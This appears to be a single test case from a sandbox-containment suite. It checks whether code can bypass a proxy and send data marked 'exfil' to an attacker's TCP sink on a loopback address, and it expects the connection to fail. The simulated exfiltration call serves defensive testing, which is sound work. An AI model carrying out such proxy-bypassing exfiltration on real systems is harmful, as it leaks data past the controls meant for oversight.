ID = "net.direct-tcp"
CATEGORY = "network"
DESCRIPTION = "connect straight to the attacker's TCP sink on a host loopback address, ignoring any proxy"
CLAIMS = ("rule:network (namespace)",)
CODE = """
r = send_sink("exfil " + DATA)
out("ALLOWED" if r == "sent" else "DENIED", f"connect {SINK_HOST}:{SINK_PORT}: {r}")
"""
CONTROL = "host"
CONTAINED = "the connection fails and the sink receives nothing"
